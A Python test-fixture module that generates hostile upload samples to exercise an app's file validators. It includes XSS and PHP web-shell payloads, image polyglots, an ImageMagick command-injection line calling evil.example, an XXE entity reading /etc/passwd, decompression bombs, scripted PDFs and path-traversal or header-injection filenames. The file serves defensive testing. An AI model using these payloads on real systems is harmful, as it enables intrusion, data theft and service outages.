"""Files that somebody sends to do harm: about a hundred, made here. What each would leave behind says SECRET."""

import io
import struct
import zlib
from functools import cache

from PIL import Image, ImageCms
from PIL.PngImagePlugin import PngInfo
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from courses.tests.files import film, ooxml, pdf, zipped
from langlearn.lib.tests.test_audio import recorded, video

HTML = b"<!DOCTYPE html><script>alert('SECRET')</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert("SECRET")</script></svg>'
PHP = b"<?php system($_GET['SECRET']); ?>"
GPS_IFD, MAKER = 0x8825, 0x010F
SIDE = 40


def encoded(kind="PNG", size=(SIDE, SIDE), mode="RGB", **options):
    made = io.BytesIO()
    Image.new(mode, size, 128 if mode in "LP" else (200, 30, 30)).save(made, kind, **options)
    return made.getvalue()


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width=SIDE, height=SIDE, depth=8, colours=2, before=b"", pixels=None):
    """A PNG as its parts say, whether they fit or not."""
    start = struct.pack(">IIBBBBB", width, height, depth, colours, 0, 0, 0)
    data = zlib.compress(b"\0" * (1 + SIDE * 3) * SIDE) if pixels is None else pixels
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", start) + before + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def gif(width=SIDE, height=SIDE, frames=1):
    image = b"," + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\0"
    return b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff" + image * frames + b";"


def jpeg_header(width, height, **options):
    """Claims to be that large; not much follows."""
    content = bytearray(encoded("JPEG", **options))
    place = content.index(b"\xff\xc2" if options.get("progressive") else b"\xff\xc0") + 5
    content[place : place + 4] = struct.pack(">HH", height, width)
    return bytes(content)


def webp_header(width, height):
    size = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    parts = b"VP8X" + struct.pack("<I", 10) + b"\0\0\0\0" + size + encoded("WEBP")[12:]
    return b"RIFF" + struct.pack("<I", len(parts) + 4) + b"WEBP" + parts


def scans(count, size=(SIDE, SIDE)):
    """A progressive JPEG whose last scan comes again and again: each costs as much as the picture."""
    content = encoded("JPEG", size, "L", progressive=True)
    last = content.rindex(b"\xff\xda")
    return content[:-2] + content[last:-2] * count + content[-2:]


@cache
def bomb(megabytes=60):
    """That much of nothing, in a few bytes."""
    packer = zlib.compressobj(1)
    return b"".join([*(packer.compress(bytes(1_000_000)) for _ in range(megabytes)), packer.flush()])


def exif():
    made = Image.Exif()
    made[MAKER] = "SECRET camera"
    made.get_ifd(GPS_IFD).update({1: "N", 2: (35.0, 41.0, 22.0), 29: "SECRET"})
    return made


def png_text(**texts):
    info = PngInfo()
    for key, text in texts.items():
        info.add_text(key, text, zip=True)
    return info


def profile():
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes().replace(b"sRGB", b"SECR")


XMP = b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>SECRET</x:xmpmeta>"


@cache
def polyglots():
    """Pictures that have too much: with a picture in them, which is all that may be kept."""
    return {
        "gif and js": encoded("GIF", comment=b"*/=1;alert('SECRET')/*"),
        "gif and html": encoded("GIF") + HTML,
        "gif, and php in its comment": encoded("GIF", comment=PHP),
        "jpeg and html": encoded("JPEG") + HTML,
        "jpeg, and html in its comment": encoded("JPEG", comment=HTML),
        "jpeg, and php in its comment": encoded("JPEG", comment=PHP),
        "jpeg and zip": encoded("JPEG") + zipped({"Main.class": b"SECRET"}),
        "jpeg and pdf": encoded("JPEG") + pdf() + b"SECRET",
        "png and html": encoded() + HTML,
        "png and php": encoded() + PHP,
        "png and zip": encoded() + zipped({"SECRET.class": b"x"}),
        "webp and html": encoded("WEBP") + HTML,
        "png with a text": encoded(pnginfo=png_text(Comment="<script>SECRET</script>")),
        "png with an odd part": png(before=chunk(b"seCr", b"SECRET")),
        "jpeg with a place": encoded("JPEG", exif=exif()),
        "png with a place": encoded(exif=exif()),
        "webp with a place": encoded("WEBP", exif=exif().tobytes()),
        "jpeg with xmp": encoded("JPEG", xmp=XMP),
        "png with xmp": encoded(pnginfo=png_text(**{"XML:com.adobe.xmp": XMP.decode()})),
        "webp with xmp": encoded("WEBP", xmp=XMP),
        "jpeg with a profile": encoded("JPEG", icc_profile=profile()),
        "webp with a profile": encoded("WEBP", icc_profile=profile()),
        "png with a broken profile": encoded(icc_profile=b"SECRET, and no profile" * 9),
        "gif of thousands of frames": gif(frames=4000),
        "gif of its own, small on a large sheet": gif(2000, 2000),
    }


@cache
def bad_pictures():
    """Pictures that are none, or would cost too much: refused, each at once."""
    return {
        "png as large as a field": png(60_000, 60_000),
        "png as long as a street": png(2_000_000, 30),
        "png of no height": png(9, 0),
        "png of 2^31": png(2**31 - 1, 2**31 - 1),
        "png of 16 bits": png(20_000, 20_000, 16, 6),
        "png whose pixels are a bomb": png(60_000, 9_000, pixels=bomb()),
        "png with a text that is a bomb": png(before=chunk(b"zTXt", b"Comment\0\0" + bomb())),
        "png with a profile that is a bomb": png(before=chunk(b"iTXt", b"XML:com.adobe.xmp\0\1\0\0\0" + bomb())),
        "gif as large as a field": gif(65_535, 65_535),
        "jpeg as large as a field": jpeg_header(65_500, 65_500),
        "jpeg of 45 megapixels in scans": jpeg_header(9000, 5000, progressive=True),
        "webp of 17 megapixels": webp_header(4250, 4000),
        "webp as large as a field": webp_header(16_384, 16_384),
        "webp of 2^24": webp_header(2**24, 2**24),
        "jpeg of thousands of scans": scans(3000),
        "png of the wrong sum": encoded()[:40] + b"\0\0" + encoded()[42:],
        "png with a part of 4 GB": b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 2**32 - 1) + b"IHDR" + bytes(99),
        "jpeg of markers alone": b"\xff\xd8" + b"\xff\xe1\xff\xff" * 50,
        "gif without end": encoded("GIF")[:25],
        "riff that is a sound": b"RIFF\x24\0\0\0WAVEfmt " + bytes(40),
        "bmp": encoded("BMP"),
        "tiff": encoded("TIFF"),
        "ico": encoded("ICO"),
        "psd": b"8BPS\0\1" + bytes(60),
        "heic": b"\0\0\0\x18ftypheic\0\0\0\0mif1heic",
        "avif": b"\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf",
        "eps": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(SECRET) run",
        "xpm": b'/* XPM */ static char *SECRET[] = {"1 1 1 1"};',
        "imagemagick's own": b"push graphic-context\nfill 'url(https://evil.example/SECRET|ls)'\npop graphic-context",
        "html": HTML,
        "html after a space": b"\n\n  " + HTML,
        "svg": SVG,
        "svg with a foreign page": SVG.replace(b"<script>", b"<foreignObject><iframe src='//evil.example'/><script>"),
        "svg, packed": b"\x1f\x8b\x08\0\0\0\0\0\0\3" + zlib.compress(SVG)[2:],
        "xml with entities": b'<!DOCTYPE x [<!ENTITY s SYSTEM "file:///etc/passwd">]><svg>&s;</svg>',
        "php": PHP,
        "a program for windows": b"MZ\x90\0" + bytes(60),
        "a program for linux": b"\x7fELF\2\1\1" + bytes(60),
        "a script of the shell": b"#!/bin/sh\necho SECRET\n",
        "a page in mime parts": b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + HTML,
        "flash": b"CWS\x0a" + bytes(60),
        "a shortcut": b"L\0\0\0\x01\x14\x02\0" + bytes(60),
        "nothing": b"",
        "one byte": b"\0",
        **{f"half a {kind}": half(kind) for kind in ("PNG", "JPEG", "GIF", "WEBP")},
    }


def half(kind):
    made = io.BytesIO()
    Image.effect_noise((60, 60), 80).convert("RGB").save(made, kind)
    return made.getvalue()[: made.tell() // 2]


def entry(**entries):
    return DictionaryObject({NameObject(f"/{name}"): value for name, value in entries.items()})


def opens(**action):
    def spoil(writer):
        writer.root_object[NameObject("/OpenAction")] = writer._add_object(entry(**action))

    return spoil


def script(kind):
    return opens(S=NameObject(kind), JS=TextStringObject("SECRET"), F=TextStringObject("SECRET"))


@cache
def documents():
    """For materials and recordings, by the name that each says it has: refused. More: courses/tests/test_uploads.py."""
    return {
        "script.pdf": pdf(script("/JavaScript")),
        "submit.pdf": pdf(script("/SubmitForm")),
        "embedded.pdf": pdf(lambda writer: writer.add_attachment("a.exe", b"MZ SECRET")),
        "html-behind.pdf": pdf() + HTML,
        "html-before.pdf": HTML + pdf(),
        "zip-behind.pdf": pdf() + zipped({"Main.class": b"SECRET"}),
        "cut.pdf": pdf()[:200],
        "macros.docx": ooxml(more={"word/vbaProject.bin": "SECRET"}),
        "bomb.docx": ooxml(more={"a.xml": b"\0" * 80_000_000}),
        "page-inside.xlsx": ooxml("xlsx", more={"xl/media/page.html": HTML}),
        "a-zip.docx": zipped({"a.html": HTML}),
        "page.txt": HTML,
        "svg.csv": SVG,
        "shell.md": b"#!/bin/sh\necho SECRET\n",
        "nul.txt": b"SECRET\0text",
        "page.html": HTML,
        "page.svg": SVG,
        "page.pdf.html": HTML,
        "wrong-brand.mp4": b"\0\0\0\x18ftypqqqq" + bytes(400),
        "rubbish.mp4": b"\0\0\0\x18ftypmp42" + bytes(4000),
        "rubbish.webm": b"\x1a\x45\xdf\xa3" + b"\xff" * 4000,
        "cut.webm": film("webm", "libvpx", "libopus")[:3000],
        "pdf.mp4": pdf(),
        "program.mp3": b"MZ\x90\0" + bytes(60),
    }


@cache
def voices():
    """What is no voice: refused."""
    return {
        "a video that is called a voice": video(),
        "a film in mp4": film(),
        "a voice that is cut": recorded()[:400],
        "signs of webm before rubbish": b"\x1a\x45\xdf\xa3" + b"x" * 500,
        "signs of mp4 before rubbish": b"\0\0\0\x18ftypM4A " + bytes(500),
        "html called a voice": HTML,
        "a picture called a voice": encoded(),
    }


NAMES = [
    "../../etc/passwd.png",
    "..\\..\\windows\\win.png",
    "/etc/cron.d/a.png",
    "a\0.html.png",
    "photo\u202egnp.exe.png",
    "x" * 300 + ".png",
    "a\r\nSet-Cookie: SECRET=1.png",
    "a.png.html",
    "a.php",
    "CON.png",
    "NUL",
    "<script>alert(1)</script>.png",
    ".htaccess",
    "a.png;.html",
    "%2e%2e%2fa.png",
]
